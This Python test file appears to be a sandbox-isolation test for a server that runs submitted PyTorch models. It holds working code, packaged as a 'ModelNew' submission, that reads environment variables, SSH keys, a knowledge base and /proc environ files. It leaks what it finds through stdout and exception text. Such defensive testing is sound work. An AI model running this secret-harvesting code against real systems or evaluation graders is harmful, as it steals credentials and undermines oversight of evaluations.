"""Attack: read the server's secrets (API tokens in its environment, the SSH key in its home, the
KB itself, the server's environment through /proc) and return them in the verdict: in the
exception text, which becomes the summary, and on stdout, which becomes the output.

Stopped by: the scrubbed environment (an allow-list; no name that looks like a secret passes), the
mount view (no home folder, no KB), and the pid namespace (/proc shows only the sandbox's own
processes). There is nothing secret to read, so nothing secret flows back.
"""

import glob
import os

import torch
import torch.nn as nn

T = __TARGETS__


def loot() -> str:
    found = [f"env {k}={v}" for k, v in os.environ.items()]
    paths = [T["ssh_key"], T["kb"], os.path.expanduser("~/.ssh/id_rsa"), "/proc/1/environ"]
    paths += glob.glob("/proc/*/environ") + glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*")
    for path in paths:
        try:
            with open(path, "rb") as f:
                found.append(f"{path}: {f.read(4000)!r}")
        except OSError:
            pass
    return "\n".join(found)


print(loot())


class ModelNew(nn.Module):
    def __init__(self) -> None:
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        raise RuntimeError("LOOT " + loot())
